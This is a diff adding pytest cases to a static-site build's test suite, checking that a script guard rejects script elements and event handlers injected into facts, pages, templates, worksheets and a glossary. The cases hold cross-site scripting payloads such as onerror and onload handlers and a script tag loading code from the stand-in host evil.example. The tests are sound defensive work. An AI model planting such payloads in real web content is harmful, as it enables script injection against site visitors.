@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import re
 
+import pytest
+
 from tests.helpers import build, scratch_copy
 
 
@@ -86,3 +88,65 @@ def test_a_truncated_file_in_the_worksheet_cache_is_rendered_again_and_the_build
     assert "worksheet cache: nl/belangenkaart.pdf was damaged" in result.stderr
     assert "worksheets/belangenkaart.yml" not in result.stderr
     assert (tmp_path / "site-2" / "werkbladen" / "belangenkaart.pdf").read_bytes() == good
+
+
+# Content cannot carry script (hooks/content/scriptguard.py): each case puts a script element or an event
+# handler into one kind of source, by replacing one line; the build fails naming file and line.
+SCRIPT_CASES = {
+    "a script in a fact": (
+        "data/facts.yml",
+        "    4. **Recht om te passen.**",
+        "    4. <script>alert(1)</script> **Recht om te passen.**",
+    ),
+    "an unquoted handler in a page": (
+        "docs/nl/over.md",
+        None,
+        "<img src=x onerror=alert(1)>",
+    ),
+    "a handler after a slash, in a page": (
+        "docs/en/over.md",
+        None,
+        '<b/onclick="alert(1)">bold</b>',
+    ),
+    "a handler in an attribute list": (
+        "docs/nl/methode/index.md",
+        None,
+        '## Kop {: onclick="alert(1)" }',
+    ),
+    "an upper-case handler in a template": (
+        "templates/uitnodiging-kerngesprek.yml",
+        "    Neem je belangenkaart mee.",
+        "    Neem je <a ONCLICK=alert(1)>belangenkaart</a> mee.",
+    ),
+    "a script in a worksheet": (
+        "worksheets/belangenkaart.yml",
+        "    Met deze kaart zet je op een rij",
+        "    <SCRIPT src=//evil.example/x.js></SCRIPT> Met deze kaart zet je op een rij",
+    ),
+    "a handler in the glossary": (
+        "data/begrippen.yml",
+        '    definition: "De mensen of de organisatie',
+        '    definition: "<svg onload=alert(1)> De mensen of de organisatie',
+    ),
+}
+
+
+@pytest.mark.parametrize("case", SCRIPT_CASES)
+def test_a_script_or_event_handler_in_any_content_fails_the_build_naming_file_and_line(tmp_path, case):
+    rel, old, new = SCRIPT_CASES[case]
+    project = scratch_copy(tmp_path / "p")
+    source = project / rel
+    text = source.read_text(encoding="utf-8")
+    if old is None:
+        text = text.rstrip("\n") + "\n\n" + new + "\n"
+    else:
+        assert text.count(old) == 1, f"{rel}: the line to replace changed"
+        text = text.replace(old, new)
+    source.write_text(text, encoding="utf-8")
+    line = text[: text.index(new)].count("\n") + 1
+    result = build(project, tmp_path / "site")
+    assert result.returncode != 0
+    wanted = f"{rel}:{line}: a script element" if "script" in new.lower() else f"{rel}:{line}: an event handler "
+    assert wanted in result.stderr, result.stderr[-3000:]
+    assert "content may not carry code" in result.stderr
+    assert not (tmp_path / "site" / "_headers").exists(), "the build went on to write a security policy"
